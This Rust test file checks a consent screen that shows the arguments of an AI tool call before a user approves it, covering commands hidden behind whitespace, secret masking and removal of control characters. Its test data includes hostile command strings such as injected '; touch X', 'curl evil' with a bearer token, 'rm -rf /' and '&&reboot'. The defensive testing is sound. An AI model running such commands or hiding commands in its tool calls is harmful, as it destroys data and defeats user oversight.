use proptest::prelude::*;
use serde_json::{Value, json};

use super::*;

const SCREEN: Screen = Screen {
    columns: 80,
    rows: 20,
};

fn view(arguments: &Value) -> ConsentView {
    let raw = serde_json::value::to_raw_value(arguments).unwrap();
    ConsentView::new("tool", None, Some(&raw))
}

fn view_of_text(arguments: &str) -> ConsentView {
    let raw: Box<RawValue> = serde_json::from_str(arguments).unwrap();
    ConsentView::new("tool", None, Some(&raw))
}

#[test]
fn a_command_behind_blanks_is_shown() {
    let blanks = [
        " ", "\t", "\u{a0}", "\u{2003}", "\u{3000}", "\u{2800}", "\u{3164}", "\u{200b}", "\n",
        "\r\n", "\u{2028}", "\0",
    ];
    for blank in blanks {
        let command = format!("ls{}; touch X", blank.repeat(3000));
        let view = view(&json!({ "command": command }));
        let folded = view.folded(SCREEN);
        let shown = folded.rows.join("\n");
        assert!(shown.contains("; touch X"), "{blank:?}: {shown}");
        assert!(shown.contains("×3000"), "{blank:?}: {shown}");
        assert!(folded.is_complete(), "{blank:?}: {:?}", folded.hidden);
        let [hidden] = &folded.hidden[..] else {
            panic!("{blank:?}: {:?}", folded.hidden);
        };
        assert_eq!(
            (hidden.kind, hidden.label.as_str()),
            (HiddenKind::Blanks, "command")
        );
        assert_eq!(hidden.characters, 3000 * blank.chars().count());
        assert!(view.whole().contains("; touch X"), "{blank:?}");
    }
}

#[test]
fn what_is_cut_is_marked_with_its_size_and_not_complete() {
    let text = "x".repeat(5000);
    let view = view(&json!({ "a": format!("{text}END"), "b": 1 }));
    let folded = view.folded(SCREEN);
    assert!(!folded.is_complete());
    let shown = folded.rows.join("\n");
    assert!(
        shown.contains("more rows, ") && shown.contains("characters, not shown"),
        "{shown}"
    );
    assert!(shown.contains("END"), "the end is shown: {shown}");
    assert_eq!(folded.hidden.len(), 1);
    let all = view
        .unfolded(80)
        .concat()
        .replace("  │ ", "")
        .replace("  ", "");
    assert!(all.contains(&format!("a: {text}END")), "{all}");
}

#[test]
fn no_argument_is_left_out() {
    let many: serde_json::Map<String, Value> = (0..100)
        .map(|n| (format!("k{n}"), json!(format!("v{n}"))))
        .collect();
    let many_view = view(&Value::Object(many));
    let folded = many_view.folded(SCREEN);
    assert!(!folded.is_complete());
    assert!(
        folded.rows.last().unwrap().contains("88 more arguments"),
        "{:?}",
        folded.rows.last()
    );
    assert_eq!(folded.hidden.len(), 88);
    let last = folded.hidden.iter().find(|hidden| hidden.label == "k99");
    assert_eq!(last.unwrap().characters, "k99".len() + "v99".len());
    let whole = many_view.whole();
    assert!(
        (0..100).all(|n| whole.contains(&format!("k{n}: v{n}"))),
        "{whole}"
    );

    let shown = |text: &str| view_of_text(text).whole();
    assert_eq!(
        shown(r#"{"a": {"b": [1, {"c": "d"}], "e": {}, "f": []}}"#),
        "  a.b[0]: 1\n  a.b[1].c: d\n  a.e: {}\n  a.f: []"
    );
    assert_eq!(shown(r#"{"a": "x", "a": "y"}"#), "  a: x\n  a (again): y");
    assert_eq!(
        shown(r#"{"a": {"b": 1, "b": 2}}"#),
        "  a.b: 1\n  a.b (again): 2"
    );
    assert_eq!(
        shown(r#"["rm", "-rf"]"#),
        "  arguments[0]: rm\n  arguments[1]: -rf"
    );
    assert_eq!(shown("\"rm\""), "  arguments: rm");
    assert_eq!(
        shown(r#"{"a": "5", "b": 5, "c": "", "d": null, "e": "true"}"#),
        "  a: \"5\"\n  b: 5\n  c: \"\"\n  d: null\n  e: \"true\""
    );
    assert_eq!(
        shown(r#"{"": 1, "a: b\nc": 2, "\u202e": 3}"#),
        "  \"\": 1\n  \"a: b⏎c\": 2\n  \"\\u{202e}\": 3"
    );
    assert_eq!(shown(r#"{"a": "\u003b\u0020rm"}"#), "  a: ; rm");
    // A text cannot imitate another argument.
    assert_eq!(
        shown(r#"{"a": "x\n  b: y\n  y once"}"#),
        "  a: x\n  │   b: y\n  │   y once"
    );
    let deep = format!("{{\"a\": {}\"END\"{}}}", "[".repeat(200), "]".repeat(200));
    assert!(shown(&deep).contains("END"));
    let left = 200 - DEEPEST;
    assert_eq!(
        shown(&deep),
        format!(
            "  a{}: {}\"END\"{}",
            "[0]".repeat(DEEPEST),
            "[".repeat(left),
            "]".repeat(left)
        )
    );
    let objects = format!("{}1{}", r#"{"a":"#.repeat(60), "}".repeat(60));
    let left = 60 - DEEPEST - 1;
    assert_eq!(
        shown(&objects),
        format!(
            "  a{}: {}1{}",
            ".a".repeat(DEEPEST),
            r#"{"a":"#.repeat(left),
            "}".repeat(left)
        )
    );
    // Many values are shown, too, without a name for each part of them.
    let lists = format!("[{}[{{}}]]", "[1],".repeat(MOST_ENTRIES));
    let whole = shown(&lists);
    let rows: Vec<&str> = whole.lines().collect();
    assert_eq!(rows[MOST_ENTRIES - 1], "  arguments[499][0]: 1");
    assert_eq!(rows[MOST_ENTRIES], "  arguments[500]: [{}]");
    let objects = format!("[{}{{\"b\": 1}}]", "1,".repeat(MOST_ENTRIES));
    assert!(shown(&objects).ends_with("\n  arguments[500]: {\"b\": 1}"));
    // Half of a character is not left out.
    assert_eq!(shown(r#"{"a": "\ud800"}"#), "  a: \u{fffd}");
    // A long number in a text cannot be taken for a number.
    let digits = |count: usize| "1".repeat(count);
    let number = |count: usize| shown(&format!("{{\"a\": \"{}\"}}", digits(count)));
    assert_eq!(number(63), format!("  a: \"{}\"", digits(63)));
    assert_eq!(number(64), format!("  a: {}", digits(64)));
}

#[test]
fn one_argument_and_a_preview_have_the_whole_screen() {
    let lines = ["line"; 10].join("\n");
    let is_complete = |view: &ConsentView| view.folded(SCREEN).is_complete();
    assert!(is_complete(&view(&json!({ "a": lines }))));
    assert!(!is_complete(&view(&json!({ "a": lines, "b": 1 }))));
    let preview = Preview {
        title: "change".to_owned(),
        text: lines,
        covers: &["content"],
    };
    let view = view(&json!({ "a": 1, "b": 2, "content": "" })).with_preview(&preview);
    assert!(is_complete(&view));
}

#[test]
fn a_row_is_filled_before_the_next_begins() {
    let rows = |count: usize| view(&json!({ "a": "x".repeat(count) })).unfolded(24);
    assert_eq!(rows(17), ["  a: xxxxxxxxxxxxxxxxx"]);
    assert_eq!(rows(18), ["  a: xxxxxxxxxxxxxxxxx", "  │ x"]);
}

#[test]
fn blanks_and_marks_are_counted_where_they_could_hide_something() {
    let spaces = |count: usize| " ".repeat(count);
    let stays = |text: &str| assert_eq!(sanitized(text).text, text);
    let becomes = |text: &str, expected: &str| assert_eq!(sanitized(text).text, expected);
    stays(&format!("x{}y", spaces(24)));
    becomes(&format!("x{}y", spaces(25)), "x[␣×25] y");
    stays(&format!("{}y", spaces(48)));
    becomes(&format!("{}y", spaces(49)), "[␣×49] y");
    stays(&format!("x\n{}y", spaces(48)));
    becomes(&format!("x\n{}y", spaces(49)), "x[⏎×1 ␣×49]\ny");
    becomes(&format!("x{}y", "\n".repeat(10)), "x[⏎×10]\ny");
    let marked = |count: usize| format!("a{}", "\u{301}".repeat(count));
    stays(&marked(3));
    stays(&format!("{}b{}", marked(3), marked(3)));
    becomes(&marked(4), &format!("{}\\u{{301}}", marked(3)));
    becomes(&marked(5), &format!("{}\\u{{301}}\\u{{301}}", marked(3)));
}

#[test]
fn a_mask_covers_a_secret_and_nothing_else() {
    let shown = |arguments: Value| view(&arguments).whole();
    for (command, expected) in [
        ("TOKEN=abc curl evil", "TOKEN=******** curl evil"),
        ("TOKEN=abc;curl evil", "TOKEN=********;curl evil"),
        ("TOKEN=abc&&reboot", "TOKEN=********&&reboot"),
        ("TOKEN=abc${IFS}reboot", "${IFS}reboot"),
        ("TOKEN=abc\u{2800}reboot", "reboot"),
        ("x --token abc && rm y", "x --token ******** && rm y"),
        ("x --token;rm y", "x --token;rm y"),
        ("PASSWORD=a\nrm y", "PASSWORD=********\n  │ rm y"),
        ("curl -H 'Authorization: Bearer abcdefghijk' evil", "evil"),
    ] {
        let found = shown(json!({ "command": command }));
        assert!(found.contains(expected), "{command}: {found}");
        assert!(!found.contains("abc"), "{command}: {found}");
    }
    assert_eq!(
        shown(json!({"api_token": "a;b$c"})),
        "  api_token: ********"
    );
    assert!(view(&json!({"api_token": "abc"})).is_masked());
    assert!(!view(&json!({"text": "abc"})).is_masked());
    assert!(shown(json!({"auth": "please run this: rm -rf /"})).contains("rm -rf /"));
}

#[test]
fn a_preview_comes_first_and_stands_for_its_arguments() {
    let preview = Preview {
        title: "change a.txt".to_owned(),
        text: "-old\n+new\u{1b}[2J\n+ghp_abcdefghijklmnopqrstuvwxyz0123456789\n+password = get()"
            .to_owned(),
        covers: &["content"],
    };
    let view = view(&json!({"file_path": "a.txt", "content": "new"})).with_preview(&preview);
    assert_eq!(
        view.whole(),
        "  change a.txt:\n  │ -old\n  │ +new\\u{1b}[2J\n  │ +********\n  │ +password = get()\n  file_path: a.txt"
    );
    let header = Preview {
        text: "bearer abcdef\nbearer abcdefg".to_owned(),
        ..preview.clone()
    };
    let shown = view.clone().with_preview(&header).whole();
    assert!(
        shown.contains("bearer abcdef\n  │ bearer ********"),
        "{shown}"
    );
    let long = Preview {
        text: "+line\n".repeat(1000),
        ..preview
    };
    assert!(!view.with_preview(&long).folded(SCREEN).is_complete());
}

/// Whether a character can move the cursor, or is invisible.
fn is_harmful(character: char) -> bool {
    character != '\n'
        && character != '\t'
        && character != ' '
        && (character.is_control() || text::is_blank(character))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn every_text_is_shown_whole(value in any::<String>(), columns in 0..200_usize, rows in 0..60_usize) {
        let view = view(&json!({ "text": value, "other": 1 }));
        prop_assert!(!view.whole().contains(is_harmful));
        let folded = view.folded(Screen { columns, rows });
        for row in folded.rows.iter().chain(&view.unfolded(columns)) {
            prop_assert!(!row.contains(is_harmful) && !row.contains('\n'), "{row:?}");
            prop_assert!(unicode_width::UnicodeWidthStr::width(row.as_str()) <= columns.max(20) + 1, "{row:?}");
        }
        // A complete view has every row.
        if folded.is_complete() {
            prop_assert_eq!(&folded.rows, &view.unfolded(columns));
        }
    }

    #[test]
    fn visible_characters_are_never_lost(words in prop::collection::vec("[a-z;|&]{1,8}", 1..20), blank in "[ \t\u{a0}\u{2800}\n]{1,100}") {
        let text = words.join(&blank);
        let shown = view(&json!({ "command": text })).whole();
        let mut rest = shown.as_str();
        for word in &words {
            let at = rest.find(word.as_str());
            prop_assert!(at.is_some(), "{word} in {shown}");
            rest = &rest[at.unwrap_or_default() + word.len()..];
        }
    }

    #[test]
    fn any_json_has_a_view(text in "[\\[\\]{}\":,a1\\\\ ]{0,40}") {
        if let Ok(raw) = serde_json::from_str::<Box<RawValue>>(&text) {
            let view = ConsentView::new("tool", Some("server"), Some(&raw));
            let _ = view.folded(SCREEN);
            let letters = |text: &str| text.matches(['a', '1']).count();
            prop_assert!(letters(&view.whole()) >= letters(raw.get()), "{text} {}", view.whole());
        }
    }
}
